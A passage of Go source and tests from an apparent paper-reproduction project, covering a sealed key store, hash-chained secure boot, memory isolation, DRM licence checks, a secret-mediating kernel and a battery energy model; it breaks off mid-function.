	pt, err = modes.Unpad(pt, bs)
	if err != nil {
		return ErrTampered
	}
	p := parserBytes{buf: pt}
	var innerVersion uint64
	var count uint32
	if !p.readUint64(&innerVersion) || innerVersion != version || !p.readUint32(&count) {
		return ErrTampered
	}
	entries := make(map[string][]byte, count)
	for i := uint32(0); i < count; i++ {
		var name, val []byte
		if !p.readBytes(&name) || !p.readBytes(&val) {
			return ErrTampered
		}
		entries[string(name)] = val
	}
	ks.entries = entries
	ks.version = version
	return nil
}

// builderBytes/parserBytes are minimal length-prefixed codecs for sealed
// blobs (4-byte lengths; distinct from the wtls wire codec on purpose —
// flash blobs and wire messages evolve independently).
type builderBytes struct{ buf []byte }

func (b *builderBytes) addUint64(v uint64) {
	for i := 7; i >= 0; i-- {
		b.buf = append(b.buf, byte(v>>(8*uint(i))))
	}
}

func (b *builderBytes) addUint32(v uint32) {
	b.buf = append(b.buf, byte(v>>24), byte(v>>16), byte(v>>8), byte(v))
}

func (b *builderBytes) addBytes(p []byte) {
	b.addUint32(uint32(len(p)))
	b.buf = append(b.buf, p...)
}

type parserBytes struct{ buf []byte }

func (p *parserBytes) readUint64(v *uint64) bool {
	if len(p.buf) < 8 {
		return false
	}
	*v = 0
	for i := 0; i < 8; i++ {
		*v = *v<<8 | uint64(p.buf[i])
	}
	p.buf = p.buf[8:]
	return true
}

func (p *parserBytes) readUint32(v *uint32) bool {
	if len(p.buf) < 4 {
		return false
	}
	*v = uint32(p.buf[0])<<24 | uint32(p.buf[1])<<16 | uint32(p.buf[2])<<8 | uint32(p.buf[3])
	p.buf = p.buf[4:]
	return true
}

func (p *parserBytes) readBytes(out *[]byte) bool {
	var n uint32
	if !p.readUint32(&n) {
		return false
	}
	if uint32(len(p.buf)) < n {
		return false
	}
	*out = append([]byte{}, p.buf[:n]...)
	p.buf = p.buf[n:]
	return true
}
