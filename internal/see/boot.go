// Package see implements the secure-execution-environment primitives of
// the paper's Section 4.1: a hash-chained secure boot rooted in ROM, a
// sealed key store over hardware-fused key material, a secure RAM/ROM
// memory-protection model with trusted/untrusted worlds, and DRM license
// enforcement ("enforcing that application content can remain secret —
// digital rights management", Section 3.4).
package see

import (
	"bytes"
	"errors"
	"fmt"

	"repro/internal/crypto/sha1"
)

// Image is one boot-chain stage: its code plus the digest it expects of
// the next stage (zero for the last stage).
type Image struct {
	Name     string
	Code     []byte
	NextHash [sha1.Size]byte
}

// Digest returns the stage measurement: H(name || code || nexthash).
func (im *Image) Digest() [sha1.Size]byte {
	d := sha1.New()
	d.Write([]byte(im.Name))
	d.Write([]byte{0})
	d.Write(im.Code)
	d.Write(im.NextHash[:])
	var out [sha1.Size]byte
	copy(out[:], d.Sum(nil))
	return out
}

// ROM is the immutable boot root: it pins the digest of the first image.
type ROM struct {
	RootHash [sha1.Size]byte
}

// BuildChain computes the hash chain over a sequence of stages (bootloader
// first), filling each image's NextHash and returning the ROM that pins
// the chain.
func BuildChain(images []*Image) (*ROM, error) {
	if len(images) == 0 {
		return nil, errors.New("see: empty boot chain")
	}
	// Walk backwards: the last stage expects nothing.
	var zero [sha1.Size]byte
	images[len(images)-1].NextHash = zero
	for i := len(images) - 2; i >= 0; i-- {
		images[i].NextHash = images[i+1].Digest()
	}
	return &ROM{RootHash: images[0].Digest()}, nil
}

// BootError reports which stage failed verification.
type BootError struct {
	Stage int
	Name  string
}

func (e *BootError) Error() string {
	return fmt.Sprintf("see: boot verification failed at stage %d (%s)", e.Stage, e.Name)
}

// BootReport records a successful boot's measurements (a TPM-style PCR
// trail).
type BootReport struct {
	Measurements [][sha1.Size]byte
	Stages       []string
}

// Boot verifies the chain against the ROM and returns the measurement
// report; any modified stage fails closed at the first divergence.
func Boot(rom *ROM, images []*Image) (*BootReport, error) {
	if rom == nil || len(images) == 0 {
		return nil, errors.New("see: missing ROM or images")
	}
	expected := rom.RootHash
	rep := &BootReport{}
	var zero [sha1.Size]byte
	for i, im := range images {
		d := im.Digest()
		if !bytes.Equal(d[:], expected[:]) {
			return nil, &BootError{Stage: i, Name: im.Name}
		}
		rep.Measurements = append(rep.Measurements, d)
		rep.Stages = append(rep.Stages, im.Name)
		expected = im.NextHash
	}
	if !bytes.Equal(expected[:], zero[:]) {
		return nil, errors.New("see: chain truncated; final stage expects a successor")
	}
	return rep, nil
}
