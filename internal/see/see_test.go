package see

import (
	"bytes"
	"errors"
	"testing"
	"testing/quick"

	"repro/internal/crypto/prng"
)

func testChain() []*Image {
	return []*Image{
		{Name: "bootloader", Code: []byte("stage1 code")},
		{Name: "os-kernel", Code: []byte("stage2 kernel image")},
		{Name: "wallet-app", Code: []byte("stage3 trusted application")},
	}
}

func TestBootHappyPath(t *testing.T) {
	images := testChain()
	rom, err := BuildChain(images)
	if err != nil {
		t.Fatal(err)
	}
	rep, err := Boot(rom, images)
	if err != nil {
		t.Fatalf("boot failed: %v", err)
	}
	if len(rep.Stages) != 3 || rep.Stages[2] != "wallet-app" {
		t.Fatalf("report stages = %v", rep.Stages)
	}
	if len(rep.Measurements) != 3 {
		t.Fatal("missing measurements")
	}
}

// TestBootDetectsTamperAtEveryStage flips one byte in each stage in turn;
// boot must fail exactly at that stage.
func TestBootDetectsTamperAtEveryStage(t *testing.T) {
	for stage := 0; stage < 3; stage++ {
		images := testChain()
		rom, err := BuildChain(images)
		if err != nil {
			t.Fatal(err)
		}
		images[stage].Code[0] ^= 0x01
		_, err = Boot(rom, images)
		var be *BootError
		if !errors.As(err, &be) {
			t.Fatalf("stage %d: want BootError, got %v", stage, err)
		}
		if be.Stage != stage {
			t.Fatalf("tampered stage %d, error points at stage %d", stage, be.Stage)
		}
	}
}

func TestBootDetectsSwappedStages(t *testing.T) {
	images := testChain()
	rom, _ := BuildChain(images)
	images[1], images[2] = images[2], images[1]
	if _, err := Boot(rom, images); err == nil {
		t.Fatal("swapped stages booted")
	}
}

func TestBootDetectsTruncatedChain(t *testing.T) {
	images := testChain()
	rom, _ := BuildChain(images)
	if _, err := Boot(rom, images[:2]); err == nil {
		t.Fatal("truncated chain booted")
	}
}

func TestBootValidation(t *testing.T) {
	if _, err := BuildChain(nil); err == nil {
		t.Error("BuildChain accepted empty chain")
	}
	if _, err := Boot(nil, testChain()); err == nil {
		t.Error("Boot accepted nil ROM")
	}
}

func newKS(t *testing.T) *KeyStore {
	t.Helper()
	ks, err := NewKeyStore([]byte("hw-fused-device-key-0001"), prng.NewDRBG([]byte("ks")))
	if err != nil {
		t.Fatal(err)
	}
	return ks
}

func TestKeyStoreBasics(t *testing.T) {
	ks := newKS(t)
	ks.Put("wifi-psk", []byte("hunter2"))
	ks.Put("sim-ki", []byte{1, 2, 3, 4})
	got, err := ks.Get("wifi-psk")
	if err != nil || !bytes.Equal(got, []byte("hunter2")) {
		t.Fatalf("Get: %q %v", got, err)
	}
	if _, err := ks.Get("nope"); err != ErrNotFound {
		t.Fatalf("want ErrNotFound, got %v", err)
	}
	names := ks.Names()
	if len(names) != 2 || names[0] != "sim-ki" {
		t.Fatalf("Names = %v", names)
	}
	ks.Delete("sim-ki")
	if _, err := ks.Get("sim-ki"); err != ErrNotFound {
		t.Fatal("Delete did not remove entry")
	}
}

func TestKeyStoreSealUnseal(t *testing.T) {
	ks := newKS(t)
	ks.Put("pin", []byte("1234"))
	ks.Put("cert", bytes.Repeat([]byte{7}, 300))
	blob, err := ks.Seal()
	if err != nil {
		t.Fatal(err)
	}
	// Fresh device instance with the same hardware key restores it.
	ks2, _ := NewKeyStore([]byte("hw-fused-device-key-0001"), prng.NewDRBG([]byte("other")))
	if err := ks2.Unseal(blob); err != nil {
		t.Fatal(err)
	}
	got, err := ks2.Get("pin")
	if err != nil || !bytes.Equal(got, []byte("1234")) {
		t.Fatal("unsealed store lost data")
	}
	if ks2.Version() != 1 {
		t.Fatalf("version = %d", ks2.Version())
	}
}

func TestKeyStoreWrongDeviceKey(t *testing.T) {
	ks := newKS(t)
	ks.Put("pin", []byte("1234"))
	blob, _ := ks.Seal()
	other, _ := NewKeyStore([]byte("a-different-device-key!!"), prng.NewDRBG(nil))
	if err := other.Unseal(blob); err != ErrTampered {
		t.Fatalf("foreign device unseal: want ErrTampered, got %v", err)
	}
}

func TestKeyStoreTamperDetected(t *testing.T) {
	ks := newKS(t)
	ks.Put("pin", []byte("1234"))
	blob, _ := ks.Seal()
	for _, idx := range []int{0, 10, len(blob) / 2, len(blob) - 1} {
		bad := append([]byte{}, blob...)
		bad[idx] ^= 0x20
		ks2, _ := NewKeyStore([]byte("hw-fused-device-key-0001"), prng.NewDRBG(nil))
		if err := ks2.Unseal(bad); err != ErrTampered {
			t.Fatalf("byte %d: want ErrTampered, got %v", idx, err)
		}
	}
	if err := ks.Unseal(blob[:10]); err != ErrTampered {
		t.Fatal("short blob accepted")
	}
}

// TestKeyStoreRollbackDetected: restoring an old blob after a newer Seal
// must fail (the anti-rollback counter).
func TestKeyStoreRollbackDetected(t *testing.T) {
	ks := newKS(t)
	ks.Put("pin", []byte("1111"))
	oldBlob, _ := ks.Seal()
	ks.Put("pin", []byte("2222"))
	if _, err := ks.Seal(); err != nil {
		t.Fatal(err)
	}
	if err := ks.Unseal(oldBlob); err != ErrRolledBak {
		t.Fatalf("rollback: want ErrRolledBak, got %v", err)
	}
}

func TestKeyStoreValidation(t *testing.T) {
	if _, err := NewKeyStore([]byte("short"), prng.NewDRBG(nil)); err == nil {
		t.Error("accepted short hardware key")
	}
	if _, err := NewKeyStore(bytes.Repeat([]byte{1}, 16), nil); err == nil {
		t.Error("accepted nil rng")
	}
}

func TestMemoryWorldIsolation(t *testing.T) {
	m, err := StandardLayout()
	if err != nil {
		t.Fatal(err)
	}
	// Untrusted world cannot touch secure RAM or ROM at all.
	if _, err := m.ReadAt(Untrusted, 0x1000_0000, 4); err == nil {
		t.Fatal("untrusted read of secure RAM allowed")
	}
	if err := m.WriteAt(Untrusted, 0x1000_0000, []byte{1}); err == nil {
		t.Fatal("untrusted write of secure RAM allowed")
	}
	if _, err := m.FetchAt(Untrusted, 0x0000_0000, 4); err == nil {
		t.Fatal("untrusted exec of secure ROM allowed")
	}
	// Trusted world can use secure RAM but cannot write ROM.
	if err := m.WriteAt(Trusted, 0x1000_0000, []byte("key material")); err != nil {
		t.Fatal(err)
	}
	got, err := m.ReadAt(Trusted, 0x1000_0000, 12)
	if err != nil || !bytes.Equal(got, []byte("key material")) {
		t.Fatal("trusted secure-RAM roundtrip failed")
	}
	if err := m.WriteAt(Trusted, 0x0000_0000, []byte{1}); err == nil {
		t.Fatal("trusted write of ROM allowed")
	}
	// Both worlds share normal RAM.
	if err := m.WriteAt(Untrusted, 0x2000_0000, []byte("app data")); err != nil {
		t.Fatal(err)
	}
	if _, err := m.ReadAt(Trusted, 0x2000_0000, 8); err != nil {
		t.Fatal(err)
	}
	// Violations were recorded for the denials above.
	if len(m.Violations()) != 4 {
		t.Fatalf("recorded %d violations, want 4", len(m.Violations()))
	}
}

func TestMemoryUnmappedAndBounds(t *testing.T) {
	m, _ := StandardLayout()
	if _, err := m.ReadAt(Trusted, 0xdead_0000, 1); err == nil {
		t.Fatal("unmapped read allowed")
	}
	// Read crossing the end of secure RAM.
	if _, err := m.ReadAt(Trusted, 0x1000_0000+128<<10-2, 8); err == nil {
		t.Fatal("out-of-bounds read allowed")
	}
	var v *Violation
	if err := m.WriteAt(Untrusted, 0x1000_0000, []byte{1}); !errors.As(err, &v) {
		t.Fatal("violation error type lost")
	} else if v.Region != "secure-ram" || v.Access != Write {
		t.Fatalf("violation = %+v", v)
	}
}

func TestMemoryOverlapRejected(t *testing.T) {
	m := NewMemoryMap()
	if _, err := m.AddRegion("a", 0, 100, nil); err != nil {
		t.Fatal(err)
	}
	if _, err := m.AddRegion("b", 50, 100, nil); err == nil {
		t.Fatal("overlap accepted")
	}
	if _, err := m.AddRegion("c", 0, 0, nil); err == nil {
		t.Fatal("zero-size region accepted")
	}
	if _, err := m.AddRegion("d", 0xffff_ff00, 0x200, nil); err == nil {
		t.Fatal("wrapping region accepted")
	}
}

func TestLoadROM(t *testing.T) {
	m, _ := StandardLayout()
	if err := m.LoadROM("secure-rom", []byte("boot code")); err != nil {
		t.Fatal(err)
	}
	got, err := m.FetchAt(Trusted, 0, 9)
	if err != nil || !bytes.Equal(got, []byte("boot code")) {
		t.Fatalf("fetch after LoadROM: %q %v", got, err)
	}
	if err := m.LoadROM("secure-rom", make([]byte, 1<<20)); err == nil {
		t.Fatal("oversized ROM image accepted")
	}
	if err := m.LoadROM("nope", []byte{1}); err == nil {
		t.Fatal("unknown region accepted")
	}
}

func TestGate(t *testing.T) {
	g := NewGate()
	if g.World() != Untrusted {
		t.Fatal("gate should start untrusted")
	}
	g.RegisterEntry(0x100, "sign-service")
	if _, err := g.EnterTrusted(0x104); err == nil {
		t.Fatal("unregistered entry accepted")
	}
	name, err := g.EnterTrusted(0x100)
	if err != nil || name != "sign-service" {
		t.Fatalf("EnterTrusted: %q %v", name, err)
	}
	if g.World() != Trusted || g.Calls() != 1 {
		t.Fatal("gate state wrong after entry")
	}
	g.ExitTrusted()
	if g.World() != Untrusted {
		t.Fatal("gate did not exit")
	}
}

func newAgent(t *testing.T, devKey, seed string) *DRMAgent {
	t.Helper()
	key := bytes.Repeat([]byte(devKey), 4)[:16]
	a, err := NewDRMAgent(key, prng.NewDRBG([]byte(seed)))
	if err != nil {
		t.Fatal(err)
	}
	return a
}

func TestDRMPlayAndCount(t *testing.T) {
	a := newAgent(t, "dev1", "drm")
	song := []byte("ringtone PCM data........")
	if err := a.Package("song-1", song, Rights{PlayCount: 2}); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 2; i++ {
		got, err := a.Play("song-1")
		if err != nil {
			t.Fatalf("play %d: %v", i, err)
		}
		if !bytes.Equal(got, song) {
			t.Fatal("content corrupted")
		}
	}
	if _, err := a.Play("song-1"); err != ErrRightsExpired {
		t.Fatalf("third play: want ErrRightsExpired, got %v", err)
	}
	if n, _ := a.RemainingPlays("song-1"); n != 0 {
		t.Fatalf("remaining = %d", n)
	}
}

func TestDRMUnlimitedPlays(t *testing.T) {
	a := newAgent(t, "dev1", "drm2")
	if err := a.Package("movie", []byte("frames"), Rights{PlayCount: -1}); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 10; i++ {
		if _, err := a.Play("movie"); err != nil {
			t.Fatal(err)
		}
	}
}

func TestDRMCopyControl(t *testing.T) {
	a := newAgent(t, "dev1", "drm3")
	a.Package("locked", []byte("x"), Rights{PlayCount: -1, AllowCopy: false}) //nolint:errcheck
	a.Package("open", []byte("y"), Rights{PlayCount: -1, AllowCopy: true})    //nolint:errcheck
	if _, _, err := a.ExportLicense("locked"); err != ErrCopyDenied {
		t.Fatalf("want ErrCopyDenied, got %v", err)
	}
	if _, _, err := a.ExportLicense("open"); err != nil {
		t.Fatalf("copyable export failed: %v", err)
	}
	if _, _, err := a.ExportLicense("ghost"); err != ErrNoLicense {
		t.Fatalf("want ErrNoLicense, got %v", err)
	}
}

// TestDRMDeviceBinding: a license moved to another device must not play —
// the content key is sealed to the issuing device.
func TestDRMDeviceBinding(t *testing.T) {
	a := newAgent(t, "dev1", "drm4")
	a.Package("tune", []byte("melody"), Rights{PlayCount: -1, AllowCopy: true}) //nolint:errcheck
	lic, enc, err := a.ExportLicense("tune")
	if err != nil {
		t.Fatal(err)
	}
	b := newAgent(t, "dev2", "drm5")
	b.ImportLicense(lic, enc)
	if _, err := b.Play("tune"); err == nil {
		t.Fatal("foreign device played device-bound content")
	}
	// Back on the original device the exported license still plays.
	a2 := newAgent(t, "dev1", "drm6")
	a2.ImportLicense(lic, enc)
	if _, err := a2.Play("tune"); err != nil {
		t.Fatalf("same-device import failed: %v", err)
	}
}

// TestDRMTamperedLicense: bumping the play count in a license breaks its
// MAC.
func TestDRMTamperedLicense(t *testing.T) {
	a := newAgent(t, "dev1", "drm7")
	a.Package("song", []byte("data"), Rights{PlayCount: 1, AllowCopy: true}) //nolint:errcheck
	lic, enc, err := a.ExportLicense("song")
	if err != nil {
		t.Fatal(err)
	}
	lic.Rights.PlayCount = 9999
	a.ImportLicense(lic, enc)
	if _, err := a.Play("song"); err != ErrLicenseTamper {
		t.Fatalf("want ErrLicenseTamper, got %v", err)
	}
}

func TestDRMValidation(t *testing.T) {
	if _, err := NewDRMAgent([]byte("short"), prng.NewDRBG(nil)); err == nil {
		t.Error("accepted short device key")
	}
	if _, err := NewDRMAgent(bytes.Repeat([]byte{1}, 16), nil); err == nil {
		t.Error("accepted nil rng")
	}
	a := newAgent(t, "dev1", "drm8")
	if _, err := a.Play("missing"); err != ErrNoLicense {
		t.Errorf("want ErrNoLicense, got %v", err)
	}
	if _, err := a.RemainingPlays("missing"); err != ErrNoLicense {
		t.Errorf("want ErrNoLicense, got %v", err)
	}
}

// TestKeyStoreSealUnsealProperty is a testing/quick property: any set of
// entries survives a seal/unseal cycle on a same-keyed device.
func TestKeyStoreSealUnsealProperty(t *testing.T) {
	hw := bytes.Repeat([]byte{0x55}, 16)
	f := func(names [][8]byte, values [][]byte) bool {
		ks, err := NewKeyStore(hw, prng.NewDRBG([]byte("prop")))
		if err != nil {
			return false
		}
		n := len(names)
		if len(values) < n {
			n = len(values)
		}
		want := map[string][]byte{}
		for i := 0; i < n; i++ {
			name := string(names[i][:])
			ks.Put(name, values[i])
			want[name] = values[i]
		}
		blob, err := ks.Seal()
		if err != nil {
			return false
		}
		ks2, err := NewKeyStore(hw, prng.NewDRBG([]byte("prop2")))
		if err != nil {
			return false
		}
		if err := ks2.Unseal(blob); err != nil {
			return false
		}
		for name, v := range want {
			got, err := ks2.Get(name)
			if err != nil || !bytes.Equal(got, v) {
				return false
			}
		}
		return len(ks2.Names()) == len(want)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}
