package see

import (
	"errors"
	"fmt"

	"repro/internal/crypto/rsa"
	"repro/internal/crypto/sha1"
)

// This file models the software-attack surface of Section 3.4: a tiny
// kernel with trusted/untrusted processes, vendor-signed application
// installation (the "downloaded software may originate from a non-trusted
// source" threat), secret-access mediation (integrity and privacy
// attacks) and per-process syscall quotas (availability attacks).

// Process is one schedulable application.
type Process struct {
	PID     int
	Name    string
	Trusted bool
	quota   int
}

// Kernel mediates access from processes to the platform's secrets.
type Kernel struct {
	ks        *KeyStore
	vendorKey *rsa.PublicKey
	procs     map[int]*Process
	nextPID   int
	audit     []string
	quota     int
}

// Kernel errors.
var (
	ErrUntrustedProcess = errors.New("see: untrusted process denied access to secret")
	ErrQuotaExhausted   = errors.New("see: process syscall quota exhausted")
	ErrBadAppSignature  = errors.New("see: application signature rejected")
)

// NewKernel creates a kernel over the key store, trusting applications
// signed by vendorKey. quota bounds syscalls per process (an
// availability-attack backstop); 0 means a default of 1000.
func NewKernel(ks *KeyStore, vendorKey *rsa.PublicKey, quota int) (*Kernel, error) {
	if ks == nil || vendorKey == nil {
		return nil, errors.New("see: kernel needs a key store and vendor key")
	}
	if quota <= 0 {
		quota = 1000
	}
	return &Kernel{ks: ks, vendorKey: vendorKey, procs: make(map[int]*Process), quota: quota}, nil
}

// SignApp produces the vendor signature over an application image; the
// vendor runs this, not the device.
func SignApp(vendor *rsa.PrivateKey, name string, code []byte) ([]byte, error) {
	digest := appDigest(name, code)
	return rsa.SignPKCS1(vendor, "sha1", digest, nil)
}

func appDigest(name string, code []byte) []byte {
	d := sha1.New()
	d.Write([]byte(name))
	d.Write([]byte{0})
	d.Write(code)
	return d.Sum(nil)
}

// Install spawns a process for a (possibly downloaded) application. With
// a valid vendor signature the process is trusted; without one it still
// runs — mobile terminals execute downloaded code, that is the threat —
// but untrusted.
func (k *Kernel) Install(name string, code, signature []byte) (*Process, error) {
	trusted := false
	if signature != nil {
		if err := rsa.VerifyPKCS1(k.vendorKey, "sha1", appDigest(name, code), signature); err != nil {
			k.log("install %s: invalid signature rejected", name)
			return nil, ErrBadAppSignature
		}
		trusted = true
	}
	k.nextPID++
	p := &Process{PID: k.nextPID, Name: name, Trusted: trusted, quota: k.quota}
	k.procs[p.PID] = p
	k.log("install %s: pid %d trusted=%v", name, p.PID, trusted)
	return p, nil
}

// charge enforces the availability quota.
func (k *Kernel) charge(p *Process) error {
	if p.quota <= 0 {
		k.log("pid %d (%s): quota exhausted", p.PID, p.Name)
		return ErrQuotaExhausted
	}
	p.quota--
	return nil
}

// RequestSecret mediates a privacy-sensitive read: trusted processes get
// the secret, untrusted ones are denied and audited (the trojan-horse
// scenario of Section 3.4, measure (ii)).
func (k *Kernel) RequestSecret(p *Process, name string) ([]byte, error) {
	if err := k.charge(p); err != nil {
		return nil, err
	}
	if !p.Trusted {
		k.log("pid %d (%s): DENIED secret %q", p.PID, p.Name, name)
		return nil, ErrUntrustedProcess
	}
	v, err := k.ks.Get(name)
	if err != nil {
		return nil, err
	}
	k.log("pid %d (%s): read secret %q", p.PID, p.Name, name)
	return v, nil
}

// StoreSecret mediates writes: only trusted processes may modify secrets
// (the integrity-attack arm).
func (k *Kernel) StoreSecret(p *Process, name string, value []byte) error {
	if err := k.charge(p); err != nil {
		return err
	}
	if !p.Trusted {
		k.log("pid %d (%s): DENIED write of secret %q", p.PID, p.Name, name)
		return ErrUntrustedProcess
	}
	k.ks.Put(name, value)
	k.log("pid %d (%s): wrote secret %q", p.PID, p.Name, name)
	return nil
}

// Audit returns the kernel's audit trail.
func (k *Kernel) Audit() []string {
	return append([]string{}, k.audit...)
}

func (k *Kernel) log(format string, args ...interface{}) {
	k.audit = append(k.audit, fmt.Sprintf(format, args...))
}
