package energy

import (
	"math"
	"sync"
	"testing"
	"testing/quick"
)

func TestNewBatteryValidation(t *testing.T) {
	if _, err := NewBattery(0); err == nil {
		t.Error("accepted zero capacity")
	}
	if _, err := NewBattery(-5); err == nil {
		t.Error("accepted negative capacity")
	}
}

func TestDrainAccounting(t *testing.T) {
	b, _ := NewBattery(100)
	if err := b.Drain("radio", 30); err != nil {
		t.Fatal(err)
	}
	if err := b.Drain("crypto", 20); err != nil {
		t.Fatal(err)
	}
	if got := b.RemainingJ(); math.Abs(got-50) > 1e-12 {
		t.Fatalf("remaining = %v, want 50", got)
	}
	if b.Drained("radio") != 30 || b.Drained("crypto") != 20 {
		t.Fatal("ledger wrong")
	}
	cats := b.Categories()
	if len(cats) != 2 || cats[0] != "crypto" || cats[1] != "radio" {
		t.Fatalf("categories = %v", cats)
	}
}

func TestDrainExhaustion(t *testing.T) {
	b, _ := NewBattery(10)
	if err := b.Drain("x", 11); err != ErrBatteryExhausted {
		t.Fatalf("want ErrBatteryExhausted, got %v", err)
	}
	// Failed drain must not change state.
	if b.RemainingJ() != 10 {
		t.Fatal("failed drain changed state")
	}
	if err := b.Drain("x", 10); err != nil {
		t.Fatalf("exact drain failed: %v", err)
	}
	if err := b.Drain("x", 0.001); err != ErrBatteryExhausted {
		t.Fatal("empty battery accepted drain")
	}
}

func TestDrainRejectsNegative(t *testing.T) {
	b, _ := NewBattery(10)
	if err := b.Drain("x", -1); err == nil {
		t.Fatal("accepted negative drain")
	}
}

func TestRecharge(t *testing.T) {
	b, _ := NewBattery(10)
	b.Drain("x", 7) //nolint:errcheck
	b.Recharge()
	if b.RemainingJ() != 10 || len(b.Categories()) != 0 {
		t.Fatal("recharge did not reset state")
	}
}

// TestFig4Endpoints computes the Figure 4 numbers with the Battery type:
// secure-mode transaction count must be under half the plain count.
func TestFig4Endpoints(t *testing.T) {
	b, _ := NewBattery(26_000)
	plainTx := b.TransactionsPossible((21.5 + 14.3) / 1e3)
	secureTx := b.TransactionsPossible((21.5 + 14.3 + 42.0) / 1e3)
	if plainTx == 0 || secureTx == 0 {
		t.Fatal("degenerate transaction counts")
	}
	ratio := float64(secureTx) / float64(plainTx)
	if ratio >= 0.5 {
		t.Fatalf("secure/plain = %.3f, paper's Figure 4 shows < 0.5", ratio)
	}
}

func TestTransactionsPossibleEdge(t *testing.T) {
	b, _ := NewBattery(10)
	if b.TransactionsPossible(0) != 0 || b.TransactionsPossible(-1) != 0 {
		t.Fatal("non-positive per-tx energy should yield 0")
	}
	if b.TransactionsPossible(3) != 3 {
		t.Fatalf("10/3 transactions = %d, want 3", b.TransactionsPossible(3))
	}
}

// TestDrainConservation is a quick property: total drained equals the sum
// over ledger categories and never exceeds capacity.
func TestDrainConservation(t *testing.T) {
	f := func(amounts []uint8) bool {
		b, _ := NewBattery(1000)
		for i, a := range amounts {
			cat := "c" + string(rune('a'+i%5))
			_ = b.Drain(cat, float64(a)) // may fail when exhausted; fine
		}
		sum := 0.0
		for _, c := range b.Categories() {
			sum += b.Drained(c)
		}
		return math.Abs((1000-b.RemainingJ())-sum) < 1e-9 && b.RemainingJ() >= 0
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestConcurrentDrain(t *testing.T) {
	b, _ := NewBattery(1e6)
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 1000; i++ {
				_ = b.Drain("load", 1)
			}
		}()
	}
	wg.Wait()
	if got := b.Drained("load"); got != 8000 {
		t.Fatalf("concurrent drain lost updates: %v", got)
	}
}
