// Package energy models the battery of a mobile appliance: a finite joule
// budget with a categorized drain ledger.
//
// Section 3.3 of the paper frames the "battery gap": security processing
// drains a slowly-improving (5-8%/year) energy supply. The Battery type
// here is the accounting substrate of the Figure 4 reproduction.
package energy

import (
	"errors"
	"fmt"
	"sort"
	"sync"

	"repro/internal/obs"
	"repro/internal/obs/journal"
	"repro/internal/obs/prof"
)

// Process-wide drain accounting in integer microjoules (counters are
// integers; µJ keeps sub-millijoule radio drains visible). Per-category
// counters are cached in a sync.Map so the steady-state cost of an
// armed drain is one lock-free load plus two atomic adds.
var (
	mDrains    = obs.C("energy.drains")
	mDrainedUJ = obs.C("energy.drained_uj")
	mExhausted = obs.C("energy.exhausted")

	catCounters sync.Map // category string -> *obs.Counter
)

// drainCounter returns the per-category drain counter, creating and
// caching it on first use.
func drainCounter(category string) *obs.Counter {
	if c, ok := catCounters.Load(category); ok {
		return c.(*obs.Counter)
	}
	c := obs.C("energy.drained_uj." + category)
	actual, _ := catCounters.LoadOrStore(category, c)
	return actual.(*obs.Counter)
}

// ErrBatteryExhausted reports a drain exceeding the remaining charge.
var ErrBatteryExhausted = errors.New("energy: battery exhausted")

// Battery is a finite energy store with per-category drain accounting.
type Battery struct {
	mu        sync.Mutex
	capacityJ float64
	drainedJ  float64
	ledger    map[string]float64
	milestone int // last drain milestone journaled (25/50/75/100 %)

	// Energy/cycle profile attribution, opt-in via AttachProfile: each
	// ledger category becomes a child frame of the attached span.
	profSpan prof.Span
	profCats map[string]prof.Span
}

// NewBattery creates a battery with the given capacity in joules.
func NewBattery(capacityJ float64) (*Battery, error) {
	if capacityJ <= 0 {
		return nil, fmt.Errorf("energy: non-positive capacity %v", capacityJ)
	}
	return &Battery{capacityJ: capacityJ, ledger: make(map[string]float64)}, nil
}

// CapacityJ returns the battery's capacity in joules.
func (b *Battery) CapacityJ() float64 { return b.capacityJ }

// RemainingJ returns the remaining charge in joules.
func (b *Battery) RemainingJ() float64 {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.capacityJ - b.drainedJ
}

// Drain removes joules from the battery under the given ledger category.
// It fails (without partial drain) if the charge is insufficient.
func (b *Battery) Drain(category string, joules float64) error {
	if joules < 0 {
		return fmt.Errorf("energy: negative drain %v", joules)
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	if b.drainedJ+joules > b.capacityJ {
		mExhausted.Inc()
		if b.milestone < 100 && journal.On(journal.LevelWarn) {
			b.milestone = 100
			journal.Emit(100, journal.LevelWarn, "energy", "battery_exhausted",
				journal.F("capacity_j", b.capacityJ),
				journal.F("refused_j", joules))
		}
		return ErrBatteryExhausted
	}
	b.drainedJ += joules
	b.ledger[category] += joules
	// Journal the 25/50/75% drain milestones (and 100% on a drain that
	// lands exactly on empty); t_sim is the percentage itself, which keeps
	// sequential drain loops deterministic.
	if journal.On(journal.LevelInfo) {
		for _, pct := range [...]int{25, 50, 75, 100} {
			if pct > b.milestone && b.drainedJ >= b.capacityJ*float64(pct)/100 {
				b.milestone = pct
				journal.Emit(int64(pct), journal.LevelInfo, "energy", "battery_milestone",
					journal.I("pct", int64(pct)),
					journal.F("drained_j", b.drainedJ),
					journal.F("remaining_j", b.capacityJ-b.drainedJ))
			}
		}
	}
	if obs.Enabled() {
		uj := int64(joules * 1e6)
		mDrains.Inc()
		mDrainedUJ.Add(uj)
		drainCounter(category).Add(uj)
	}
	if b.profCats != nil && b.profSpan.Active() {
		sp, ok := b.profCats[category]
		if !ok {
			sp = b.profSpan.Enter(category)
			b.profCats[category] = sp
		}
		sp.AddEnergyUJ(int64(joules * 1e6))
	}
	return nil
}

// CategoryJoules is one entry of a batched drain.
type CategoryJoules struct {
	Category string
	Joules   float64
}

// DrainBatch drains several categories under one lock acquisition — the
// flush path of accumulator-style callers (internal/fleet folds millions
// of per-device drains into one batch per shard per epoch). The batch is
// all-or-nothing: if the summed drain exceeds the remaining charge the
// battery is left untouched and ErrBatteryExhausted is returned.
// Milestone journaling matches the equivalent sequence of Drain calls.
func (b *Battery) DrainBatch(drains []CategoryJoules) error {
	var total float64
	for _, d := range drains {
		if d.Joules < 0 {
			return fmt.Errorf("energy: negative drain %v", d.Joules)
		}
		total += d.Joules
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	if b.drainedJ+total > b.capacityJ {
		mExhausted.Inc()
		if b.milestone < 100 && journal.On(journal.LevelWarn) {
			b.milestone = 100
			journal.Emit(100, journal.LevelWarn, "energy", "battery_exhausted",
				journal.F("capacity_j", b.capacityJ),
				journal.F("refused_j", total))
		}
